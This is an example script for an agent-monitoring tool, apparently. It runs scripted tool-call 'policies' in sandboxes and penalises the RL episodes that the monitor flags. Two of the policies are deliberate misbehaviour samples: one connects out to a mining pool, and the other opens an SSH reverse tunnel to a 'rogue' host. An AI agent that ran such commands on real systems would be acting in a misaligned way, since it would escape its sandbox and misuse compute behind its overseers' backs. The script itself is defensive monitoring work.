#!/usr/bin/env python3
"""A toy RL-style loop: scripted "agents" run tool calls in per-episode sandboxes, and the rewards
of the episodes that misbehaved are penalised from agentprobe's verdicts.

    sudo agentprobe watch --cgroup agents -o unix:/run/agentprobe.sock --label-env EPISODE_ID,TOOL_CALL_ID &
    sudo python3 examples/rl_loop.py [--pool HOST:PORT]

No model: each "policy" is a list of shell commands (its tool calls). The verdict of an episode
says which rules fired and whether the episode was frozen; the example drops the trajectory from
the training batch and gives it a penalty. `agentprobe read --verdicts STREAM` shows the same
verdicts offline.
"""

from __future__ import annotations

import argparse
import subprocess
import sys
import uuid
from dataclasses import dataclass

from agentprobe.client import Episode

PENALTY = -10.0


@dataclass
class Outcome:
    episode: str
    policy: str
    reward: float
    verdict: str
    rules: dict
    kept: bool


def policies(pool: str) -> dict[str, list[str]]:
    """name -> tool calls. One honest policy and two that learned to misbehave."""
    host, port = pool.rsplit(":", 1)
    return {
        "honest": ["python3 -c 'print(sum(range(10)))'", "ls /", "echo done"],
        "miner": ["echo looking for spare compute",
                  f"python3 -c 'import socket, time; s = socket.socket(); s.settimeout(2); "
                  f"print(s.connect_ex((\"{host}\", {port}))); time.sleep(5)'",  # then it would mine
                  "echo share submitted"],
        "tunneler": ["echo opening a way home",
                     f"ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=3 -N "
                     f"-R 9000:localhost:22 rogue@{host}"],
    }


def task_reward(outputs: list[str]) -> float:
    """The environment's own reward: 1 per tool call that produced output."""
    return float(sum(1 for o in outputs if o.strip()))


def run_episode(name: str, policy: str, calls: list[str], parent: str, socket: str) -> Outcome:
    outputs = []
    with Episode(name, labels={"episode": name, "policy": policy}, parent=parent, socket=socket) as ep:
        for i, call in enumerate(calls):
            if ep.frozen:
                break  # the sandbox was frozen: the rest of the trajectory does not run
            try:
                r = ep.run(["/bin/sh", "-c", call], timeout=30, text=True,
                           env={"EPISODE_ID": name, "TOOL_CALL_ID": str(i), "PATH": "/usr/bin:/bin"})
                outputs.append("" if r.frozen else r.stdout)  # a frozen call was killed: no output
            except subprocess.TimeoutExpired:
                outputs.append("")
    v = ep.verdict
    reward = task_reward(outputs)
    if not v.clean:
        reward = PENALTY
    return Outcome(name, policy, reward, "frozen" if v.frozen else ("clean" if v.clean else "alerted"),
                   v.rules, kept=v.clean)


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="rl_loop")
    ap.add_argument("--parent", default="agents", help="the watched cgroup")
    ap.add_argument("--socket", default="/run/agentprobe.sock")
    ap.add_argument("--pool", default="198.51.100.2:3333", help="where the 'miner' policy connects")
    ap.add_argument("--episodes", type=int, default=1, help="episodes per policy")
    a = ap.parse_args(argv)
    results = []
    for n in range(a.episodes):
        for policy, calls in policies(a.pool).items():
            name = f"ep-{policy}-{n}-{uuid.uuid4().hex[:4]}"
            results.append(run_episode(name, policy, calls, a.parent, a.socket))
    print(f"{'episode':<28} {'policy':<10} {'verdict':<8} {'reward':>7}  kept  rules")
    for o in results:
        print(f"{o.episode:<28} {o.policy:<10} {o.verdict:<8} {o.reward:>7.1f}  {'yes' if o.kept else 'no ':<4}  "
              f"{','.join(sorted(o.rules)) or '-'}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
